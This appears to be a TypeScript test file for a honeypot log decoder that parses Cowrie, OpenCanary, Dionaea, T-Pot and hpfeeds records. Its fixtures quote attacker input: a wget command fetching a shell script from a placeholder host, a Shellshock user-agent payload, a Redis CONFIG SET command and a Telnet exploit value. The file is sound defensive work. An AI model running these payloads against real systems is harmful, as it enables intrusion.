import { describe, expect, test } from "vitest";
import { readContent } from "../../../../test/support/ingest/decode.ts";

const IP = "45.83.64.1";
const TIME = "2026-11-20T13:00:00Z";

/** What a record says, or the reason for which it is ignored or rejected. */
async function read(record: object, format = "auto"): Promise<unknown> {
  const [decoded] = await readContent(JSON.stringify(record), format);
  return decoded?.value ?? decoded?.ignored ?? decoded?.rejection?.reason;
}

const cowrie = (event: string, members: object) =>
  read({ eventid: `cowrie.${event}`, src_ip: IP, session: "s", sensor: "p", timestamp: TIME, ...members });
const opencanary = (logtype: number, logdata: object, port = 80) =>
  read({
    logtype,
    logdata,
    src_host: IP,
    src_port: 4711,
    dst_port: port,
    node_id: "c",
    utc_time: "2026-11-20 13:00:00",
  });
const hpfeeds = (channel: string, payload: object) => read({ channel, ident: "pot-1", timestamp: TIME, payload });
const tpot = (type: string, members: object) =>
  read(
    {
      "@timestamp": TIME,
      type,
      host: "3f2a",
      path: `/data/${type.toLowerCase()}/log/x.json`,
      src_ip: IP,
      "t-pot_hostname": "hive-1",
      "t-pot_ip_ext": "198.51.100.7",
      ...members,
    },
    "tpot",
  );

describe("Cowrie", () => {
  test("a refused key is an attempt to log in, without a password", async () => {
    const refused = { username: "root", fingerprint: "aa:bb", key: "ssh-rsa AAAA", type: "ssh-rsa" };
    const said = await cowrie("login.failed", refused);
    expect(said).toMatchObject({ credentials: [{ username: "root" }], login_attempts: 1 });
    expect(said).not.toHaveProperty("credentials.0.password");
  });

  test("a request to the Telnet port is a request, and no login", async () => {
    const line = { protocol: "telnet", username: "GET /shell?id HTTP/1.1", password: "Host: 198.51.100.7" };
    const said = await cowrie("login.success", line);
    expect(said).toMatchObject({ application: "telnet", http: { method: "GET", path: "/shell", query: "id" } });
    for (const member of ["credentials", "login_attempts", "labels"]) expect(said).not.toHaveProperty(member);
    // Over SSH nothing but a user name can stand there.
    expect(await cowrie("login.failed", { ...line, protocol: "ssh" })).toMatchObject({ login_attempts: 1 });
  });

  test("a request to the SSH port is a request, and no banner", async () => {
    const said = await cowrie("client.version", { protocol: "ssh", version: "GET /x?y HTTP/1.1" });
    expect(said).toMatchObject({ application: "ssh", http: { method: "GET", path: "/x", query: "y" } });
    expect(said).not.toHaveProperty("ssh");
    const tls = { protocol: "ssh", version: "\\x16\\x03\\x01\\x02\\x00\\x01" };
    expect(await cowrie("client.version", tls)).not.toHaveProperty("ssh");
    const published = { peerIP: IP, session: "s", protocol: "ssh", version: "GET / HTTP/1.1", credentials: [] };
    expect(await hpfeeds("cowrie.sessions", published)).not.toHaveProperty("ssh");
  });

  test.each([
    ["\\xd0\\xbf", "п"],
    ["a\\\\b\\\\xd0", "a\\b\\xd0"],
    ["x\\x07y", "x\u0007y"],
    ["\\xff\\xfe", "\\xff\\xfe"],
    ["привет\\xd0", "привет\\xd0"],
  ])("%j, as version 3.1.4 writes it, is kept as %j was typed", async (written, typed) => {
    const said = await cowrie("login.failed", { protocol: "ssh", username: written, password: written });
    expect(said).toMatchObject({ credentials: [{ username: typed, password: typed }] });
    const published = { peerIP: IP, session: "s", protocol: "ssh", credentials: [["root", written]], loggedin: null };
    expect(await hpfeeds("cowrie.sessions", published)).toMatchObject({
      credentials: [{ username: "root", password: typed }],
    });
  });

  test("version 2, which names no protocol at a login, wrote what was typed", async () => {
    expect(await cowrie("login.failed", { username: "root", password: "\\xd0\\xbf" })).toMatchObject({
      credentials: [{ username: "root", password: "\\xd0\\xbf" }],
    });
  });

  test("a redirection leaves a file, and downloads none", async () => {
    const shasum = "cebf25e0668376ce72d60cc05894de697b174396e5036fdb525363c351bf1f9b";
    const said = await cowrie("session.file_download", { shasum, destfile: "/tmp/x" });
    expect(said).toMatchObject({ payload_sha256: [shasum] });
    for (const member of ["urls", "labels"]) expect(said).not.toHaveProperty(member);
  });

  test("what is typed at passwd is no command", async () => {
    const typed = { input: "hunter2", realm: "passwd" };
    expect(await cowrie("command.input", typed)).not.toHaveProperty("commands");
    expect(await cowrie("command.success", typed)).toBe("no-behaviour");
    expect(await cowrie("command.input", { input: "id", realm: "sh" })).toMatchObject({ commands: ["id"] });
  });

  test("an exploit of Telnet is a label with its CVE", async () => {
    expect(await cowrie("telnet.exploit_attempt", { cve: "CVE-2026-24061", value: "-f root" })).toMatchObject({
      application: "telnet",
      labels: ["cowrie:telnet.exploit_attempt", "cve:CVE-2026-24061"],
    });
  });
});

describe("OpenCanary", () => {
  test.each<[what: string, type: number, data: object, says: object]>([
    ["the method of a request", 3002, { PATH: "/", REQUEST_TYPE: "PROPFIND" }, { http: { method: "PROPFIND" } }],
    ["a connection to MySQL", 9003, {}, { application: "mysql", transport: "tcp" }],
    [
      "MSSQL's own names",
      9001,
      { UserName: "sa", Password: "p" },
      { credentials: [{ username: "sa", password: "p" }] },
    ],
    ["SMB, whose numbers port scans share", 5000, { USER: "anonymous" }, { application: "smb" }],
    ["SNMP over UDP", 13001, { COMMUNITY_STRING: "public" }, { application: "snmp", transport: "udp" }],
    ["LLMNR over UDP", 19001, {}, { application: "llmnr", transport: "udp" }],
    ["TFTP's file", 10001, { OPCODE: "READ", FILENAME: "a" }, { transport: "udp", commands: ["READ a"] }],
    ["Redis with arguments", 17001, { CMD: "CONFIG SET", ARGS: "dir /x" }, { commands: ["CONFIG SET dir /x"] }],
    ["Redis' AUTH", 17001, { CMD: "AUTH", ARGS: "p" }, { credentials: [{ password: "p" }], login_attempts: 1 }],
    [
      "SIP's agent and method",
      15001,
      { HEADERS: { "user-agent": ["friendly-scanner"], cseq: ["1 OPTIONS"] } },
      { application: "sip", transport: "udp", http: { method: "OPTIONS", user_agent: "friendly-scanner" } },
    ],
    ["a login to MongoDB", 20001, { action: "mongodb.auth_attempt", username: "a" }, { application: "mongodb" }],
    ["the transport of a port scan", 5001, { PROTO: "UDP" }, { transport: "udp" }],
  ])("says %s", async (_what, type, data, says) => {
    expect(await opencanary(type, data)).toMatchObject(says);
  });

  test.each<[what: string, type: number, data: object, absent: string]>([
    ["an agent that was not sent", 3000, { PATH: "/", USERAGENT: "<not supplied>" }, "http.user_agent"],
    [
      "a login that was not sent",
      3001,
      { PATH: "/", USERNAME: "<not supplied>", PASSWORD: "<not supplied>" },
      "login_attempts",
    ],
    ["MySQL's answer to a challenge", 8001, { USERNAME: "a", PASSWORD: "9f86d0" }, "credentials.0.password"],
    [
      "a password of VNC that it did not find",
      12001,
      { "VNC Password": "<Password was not in the common list>" },
      "credentials",
    ],
    [
      "a user that MongoDB's client did not name",
      20001,
      { action: "mongodb.auth_attempt", username: "unknown" },
      "credentials",
    ],
    ["an agent in the place of a port scan's application", 5001, { PROTO: "TCP" }, "application"],
  ])("takes no value from %s", async (_what, type, data, absent) => {
    const said = await opencanary(type, data);
    expect(said).toHaveProperty("source_ip", IP);
    expect(said).not.toHaveProperty(absent);
  });

  test("of one connection, records share a session; requests of HTTP and port scans stand alone", async () => {
    const connection = await opencanary(4000, { SESSION: "0" }, 22);
    expect(connection).toHaveProperty("session_id", "4711-:22");
    for (const type of [4001, 4002, 6001, 17001])
      expect(await opencanary(type, {}, 22)).toMatchObject({ session_id: "4711-:22" });
    for (const type of [3000, 5001, 13001]) expect(await opencanary(type, {}, 22)).not.toHaveProperty("session_id");
  });

  test("ignores what is about itself", async () => {
    expect(await opencanary(1001, { msg: "started" })).toBe("about-sensor");
  });
});

describe("Dionaea", () => {
  const dionaea = (members: object) => read({ src_ip: IP, dst_port: 21, timestamp: TIME, ...members });
  const accepted = { connection: { protocol: "ftpd", transport: "tcp", type: "accept" } };

  test("loses no pair of flattened lists, and reads the lists of pairs of its nested log", async () => {
    const flat = { credentials: { username: [null, "b"], password: ["1", "2", "3"] } };
    const pairs = [{ password: "1" }, { username: "b", password: "2" }, { password: "3" }];
    expect(await dionaea({ ...accepted, ...flat })).toMatchObject({ credentials: pairs, login_attempts: 3 });
    const nested = { credentials: pairs, ftp: { commands: [{ command: "USER", arguments: ["b"] }] } };
    expect(await dionaea({ ...accepted, ...nested })).toMatchObject({ credentials: pairs, commands: ["USER b"] });
  });

  test("a call over UDP is its peer's, a connection of its own over TCP is not", async () => {
    const sip = { connection: { protocol: "SipSession", transport: "udp", type: "connect" } };
    expect(await dionaea(sip)).toMatchObject({ application: "sip", transport: "udp" });
    const own = { connection: { protocol: "ftpdataconnect", transport: "tcp", type: "connect" } };
    expect(await dionaea(own)).toBe("own-traffic");
  });

  test("from T-Pot, a password with a comma stays whole", async () => {
    expect(await tpot("Dionaea", { ...accepted, username: "sa", password: "a,b" })).toMatchObject({
      credentials: [{ username: "sa", password: "a,b" }],
      login_attempts: 1,
    });
  });
});

describe("T-Pot", () => {
  const NEW_TYPES: readonly (readonly [what: string, members: object, says: object])[] = [
    ["an application under protocol", { protocol: "SSH", dest_port: 22 }, { application: "ssh", transport: "tcp" }],
    ["a transport under protocol", { protocol: "UDP", dest_port: 9 }, { transport: "udp" }],
    ["what is spoken over UDP", { proto: "snmp", dest_port: 1161 }, { application: "snmp", transport: "udp" }],
    [
      "a request",
      { request_uri: "/a?b=1", request_method: "GET" },
      { http: { method: "GET", path: "/a", query: "b=1" } },
    ],
  ];
  test.each(NEW_TYPES)("a type that no table knows says %s, and its log is no path", async (_what, members, says) => {
    const said = await tpot("Newpot", members);
    expect(said).toMatchObject({ ...says, labels: ["tpot:Newpot"] });
    expect(JSON.stringify(said)).not.toContain("/data/");
  });

  test("a type that no table knows and that names nothing has neither path nor application, nor TCP at a port of UDP", async () => {
    const said = await tpot("Newpot", { dest_port: 161 });
    for (const member of ["http", "application", "transport"]) expect(said).not.toHaveProperty(member);
  });

  test.each(["Glutton", "Tanner", "Honeyaml", "Adbhoney", "Medpot"])(
    "the log of %s is never its path",
    async (type) => {
      expect(JSON.stringify(await tpot(type, { handler: "tcp" }))).not.toMatch(/\/data\/|3f2a/);
    },
  );

  test("a visit that its web server let in is the operator's, one that it refused is not", async () => {
    const visit = { remote_user: "admin", request_uri: "/kibana", request_method: "GET" };
    for (const status of [200, 304, 404, 502]) expect(await tpot("NGINX", { ...visit, status })).toBe("operator");
    for (const status of [400, 401, 403]) expect(await tpot("NGINX", { ...visit, status })).toHaveProperty("http");
    expect(await tpot("NGINX", { ...visit, remote_user: "", status: 200 })).toHaveProperty("http.path", "/kibana");
  });

  test("its own address is no source, by whichever honeypot", async () => {
    for (const type of ["Cowrie", "Dionaea", "Mailoney", "Newpot"])
      expect(await tpot(type, { src_ip: "198.51.100.7" })).toBe("own-traffic");
  });

  test("what monitors say of the sensor's answers is ignored", async () => {
    expect(await tpot("P0f", { mod: "syn+ack", subject: "srv", os: "Linux" })).toBe("answer");
    expect(await tpot("Fatt", { protocol: "ssh", fatt_ssh: { hasshServer: "x", server: "SSH-2.0-x" } })).toBe("answer");
  });

  test("answers to challenges are no passwords", async () => {
    const login = { action: "login", username: "root", dest_port: 3306 };
    const scramble = "5d41402abc4b2a76b9719d911017c592aabbccdd";
    for (const [server, password] of [
      ["mysql_server", scramble],
      ["vnc_server", "DES:00ff"],
      ["smb_server", "None"],
    ]) {
      const said = await tpot("Honeypots", { ...login, server, password });
      expect(said).toMatchObject({ credentials: [{ username: "root" }], login_attempts: 1 });
      expect(said).not.toHaveProperty("credentials.0.password");
    }
  });
});

test("ElasticPot 2.0.3, IPPHoney 2.0.2 and ADBHoneypot 3.0.2 are read as they write", async () => {
  const common = { src_ip: IP, dst_ip: "192.0.2.2", sensor: "pot-1", timestamp: "2026-11-20T07:06:32.632811+00:00Z" };
  const observed = { observed_at: "2026-11-20T07:06:32.632811Z", sensor_id: "pot-1", source_ip: IP };
  const web = { ...common, src_port: 46192, request: "GET", user_agent: "probe/1" };
  expect(
    await read({ ...web, eventid: "elasticpot.recon", message: "Scan", url: "/_cat/indices", dst_port: 9200 }),
  ).toMatchObject({ ...observed, application: "elasticsearch", http: { path: "/_cat/indices" } });
  expect(await read({ ...web, eventid: "ipphoney.connect", url: "/", dst_port: 631 })).toMatchObject({
    ...observed,
    application: "ipp",
  });
  const adb = { ...common, operation: "command", session: "58c8887d8abe", eventid: "adbhoneypot.command.input" };
  expect(await read({ ...adb, input: "cd /data; wget http://192.0.2.9/x.sh" })).toMatchObject({
    ...observed,
    application: "adb",
    session_id: "58c8887d8abe",
    commands: ["cd /data; wget http://192.0.2.9/x.sh"],
    labels: ["adbhoney:command.input"],
  });
});

describe("hpfeeds", () => {
  test.each<[channel: string, payload: object, says: object]>([
    ["amun.events", { attackerIP: IP, attackerPort: 1, victimPort: 80 }, { destination_port: 80, transport: "tcp" }],
    [
      "conpot.events",
      { remote: [IP, 1], local: ["x", 161], data_type: "snmp" },
      { application: "snmp", transport: "udp" },
    ],
    [
      "dionaea.connections",
      {
        remote_host: `::ffff:${IP}`,
        local_port: 445,
        connection_protocol: "smbd",
        connection_transport: "tcp",
        connection_type: "accept",
      },
      { application: "smb", destination_port: 445 },
    ],
    [
      "dionaea.capture",
      { saddr: IP, sport: 1, dport: 445, url: "smb://x" },
      { urls: ["smb://x"], destination_port: 445 },
    ],
    [
      "glastopf.events",
      { source: [IP, 1], request_raw: "GET /a HTTP/1.1\r\nUser-Agent: ua\r\n\r\n", request_url: "/a" },
      { destination_port: 80, http: { path: "/a", user_agent: "ua" } },
    ],
    [
      "elastichoney.events",
      { source: IP, url: "h:9200/_search?pretty", method: "POST", headers: { user_agent: "ua" } },
      { destination_port: 9200, http: { method: "POST", user_agent: "ua" } },
    ],
    [
      "shockpot.events",
      {
        source_ip: IP,
        dest_port: "80",
        method: "GET",
        url: "http://h/cgi-bin/x",
        path: "/cgi-bin/x",
        headers: [["User-Agent", "() { :;}; id"]],
      },
      { http: { path: "/cgi-bin/x", user_agent: "() { :;}; id" } },
    ],
    [
      "snort.alerts",
      { source_ip: IP, destination_port: 22, protocol: "TCP", signature: "x" },
      { transport: "tcp", labels: ["hpfeeds:snort.alerts", "snort:x"] },
    ],
    ["p0f.events", { client_ip: IP, server_port: 22, os: "Linux" }, { labels: ["hpfeeds:p0f.events", "p0f:Linux"] }],
    [
      "elasticpot.events",
      { eventid: "elasticpot.recon", src_ip: IP, dst_port: 9200, request: "GET", url: "/_cat" },
      { application: "elasticsearch", sensor_id: "pot-1", http: { path: "/_cat" } },
    ],
    [
      "heralding.events",
      { auth_id: "a", session_id: "s", source_ip: IP, protocol: "ftp", username: "a", password: "b" },
      { application: "ftp", login_attempts: 1, sensor_id: "pot-1" },
    ],
    [
      "ssh-auth-logger.events",
      { src: IP, spt: 1, dpt: 22, duser: "root", password: "p" },
      { credentials: [{ username: "root", password: "p" }], destination_port: 22 },
    ],
  ])("%s is read by its own members", async (channel, payload, says) => {
    expect(await hpfeeds(channel, payload)).toMatchObject({ source_ip: IP, ...says });
  });

  test("the address of a request is no address that the sensor was made to download", async () => {
    for (const channel of ["wordpot.events", "shockpot.events", "elastichoney.events"])
      expect(await hpfeeds(channel, { source_ip: IP, source: IP, url: "http://h/x" })).not.toHaveProperty("urls");
  });

  test("what a sensor began or sent back is ignored", async () => {
    const own = { remote_host: IP, connection_type: "connect", connection_transport: "tcp", connection_protocol: "x" };
    expect(await hpfeeds("dionaea.connections", own)).toBe("own-traffic");
    expect(await hpfeeds("honeydb-agent.events", { remote_host: IP, event: "TX" })).toBe("answer");
  });
});

test("the DShield sensor's port is not the one that a request to a proxy names", async () => {
  const asked = {
    time: TIME,
    sip: IP,
    method: "CONNECT",
    url: "example.com:443",
    headers: { host: "example.com:443" },
  };
  expect(await read(asked)).not.toHaveProperty("destination_port");
  expect(await read({ ...asked, method: "GET", url: "/" })).toHaveProperty("destination_port", 443);
});
